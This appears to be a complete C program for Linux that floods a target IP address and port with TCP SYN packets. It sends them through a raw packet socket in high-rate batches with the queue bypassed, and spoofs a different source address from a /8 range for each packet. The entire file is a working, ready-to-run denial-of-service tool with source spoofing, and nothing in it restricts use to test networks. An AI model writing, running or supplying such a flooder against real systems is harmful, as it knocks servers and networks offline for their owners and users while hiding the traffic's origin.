// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * A flood of SYNs, each from another address, by a packet socket.
 *
 *   syns INTERFACE MAC SOURCE4 DESTINATION4 PORT SECONDS [COUNT]
 *
 * Sources are SOURCE4 and what follows it in its /8, over and over. Ends after so many seconds, or
 * COUNT SYNs; prints how many were sent and how many a second.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <linux/if_ether.h>

#define BATCH      256
#define FRAME_SIZE (ETH_HLEN + sizeof(struct iphdr) + sizeof(struct tcphdr))

struct frame {
	struct ethhdr ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static struct frame frames[BATCH];

static void die(const char *what)
{
	fprintf(stderr, "syns: %s: %s\n", what, errno ? strerror(errno) : "wrong usage");
	exit(2);
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static uint32_t sum16(const void *bytes, size_t size, uint32_t sum)
{
	const uint8_t *at = bytes;

	for (size_t i = 0; i < size; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	sum = (sum >> 16) + (sum & 0xffff);
	return htons((uint16_t) ~(sum + (sum >> 16)));
}

static void build(struct frame *frame, const char *mac, in_addr_t to, uint16_t port)
{
	memset(frame, 0, sizeof(*frame));
	for (int i = 0; i < ETH_ALEN; i++)
		frame->ethernet.h_dest[i] = (uint8_t)strtoul(mac + 3 * i, NULL, 16);
	frame->ethernet.h_source[0] = 2;
	frame->ethernet.h_proto = htons(ETH_P_IP);
	frame->ip = (struct iphdr){.version = 4,
				   .ihl = 5,
				   .tot_len = htons(FRAME_SIZE - ETH_HLEN),
				   .ttl = 64,
				   .protocol = IPPROTO_TCP,
				   .daddr = to};
	frame->tcp.dest = htons(port);
	frame->tcp.doff = 5;
	frame->tcp.syn = 1;
	frame->tcp.window = htons(65535);
}

static void address(struct frame *frame, uint32_t from, uint64_t number)
{
	uint32_t sum;

	frame->ip.saddr = htonl((from & 0xff000000) | ((from + number) & 0xffffff));
	frame->ip.check = 0;
	frame->ip.check = fold(sum16(&frame->ip, sizeof(frame->ip), 0));
	frame->tcp.source = htons((uint16_t)(1024 + number % 60000));
	frame->tcp.seq = htonl((uint32_t)number);
	frame->tcp.check = 0;
	sum = sum16(&frame->ip.saddr, 8, IPPROTO_TCP + sizeof(frame->tcp));
	frame->tcp.check = fold(sum16(&frame->tcp, sizeof(frame->tcp), sum));
}

static int open_socket(const char *interface)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(interface)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0), yes = 1;

	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		die(interface);
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes));
	return fd;
}

int main(int argc, char **argv)
{
	struct mmsghdr messages[BATCH] = {0};
	struct iovec parts[BATCH];
	struct in_addr from, to;
	uint64_t sent = 0, most;

	if (argc < 7 || !inet_aton(argv[3], &from) || !inet_aton(argv[4], &to))
		die("usage");
	most = argc > 7 ? strtoull(argv[7], NULL, 10) : UINT64_MAX;
	int fd = open_socket(argv[1]);
	for (int i = 0; i < BATCH; i++) {
		build(&frames[i], argv[2], to.s_addr, (uint16_t)atoi(argv[5]));
		parts[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	double start = now(), end = start + atof(argv[6]);
	while (sent < most && now() < end) {
		for (int i = 0; i < BATCH; i++)
			address(&frames[i], ntohl(from.s_addr), sent + (uint64_t)i);
		int count = sendmmsg(fd, messages, BATCH, 0);
		if (count > 0)
			sent += (uint64_t)count;
		else if (errno != ENOBUFS && errno != EAGAIN)
			die("sendmmsg");
	}
	printf("%llu %.0f\n", (unsigned long long)sent, (double)sent / (now() - start));
	close(fd);
	return 0;
}
